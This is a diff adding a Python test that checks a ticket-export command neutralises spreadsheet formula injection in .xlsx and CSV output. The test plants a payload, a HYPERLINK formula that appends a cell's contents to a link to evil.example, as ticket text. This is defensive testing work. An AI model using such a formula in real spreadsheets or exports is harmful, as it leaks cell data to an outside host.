@@ -116,3 +116,28 @@ def test_tickets_export_and_purge(tmp_path: Path) -> None:
         assert conn.execute("SELECT count(*) FROM message_log WHERE ticket_id = 1").fetchone() == (0,)
         assert conn.execute("SELECT count(*) FROM tickets").fetchone() == (1,)  # the ticket stays
         assert conn.execute("SELECT count(*) FROM ticket_events WHERE ticket_id = 1").fetchone()[0] > 0
+
+
+def test_an_exported_demand_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    """Formula injection: openpyxl wrote any text starting with "=" as a live formula, so a demand
+    typed as `=HYPERLINK(…)` became a link (or worse) in the export; in a CSV, Excel runs text
+    starting with = + - @ likewise. The .xlsx cell is text; the CSV cell starts with an apostrophe."""
+    db = tmp_path / "t.db"
+    url = f"sqlite+aiosqlite:///{db}"
+    shell = xiaoer("shell", "-d", url, stdin=f"{DEMAND}\n", cwd=tmp_path)
+    assert shell.returncode == 0, shell.stderr
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看进度")'
+    with sqlite3.connect(db) as conn:  # as the person typed it (the shell's NLU reads it as no demand)
+        conn.execute("UPDATE tickets SET text = ?", (formula,))
+    span = ("--from", "2020-01-01", "--to", "2099-12-31", "-d", url)
+    xlsx = xiaoer("tickets", "export", *span, "-o", "t.xlsx", cwd=tmp_path)
+    assert xlsx.returncode == 0, xlsx.stderr
+    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    text = sheet.cell(row=2, column=header.index("text") + 1)
+    assert (text.value, text.data_type) == (formula, "s")
+    exported = xiaoer("tickets", "export", *span, "--format", "csv", "-o", "t.csv", cwd=tmp_path)
+    assert exported.returncode == 0, exported.stderr
+    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
+        [row] = list(csv.DictReader(f))
+    assert row["text"] == "'" + formula
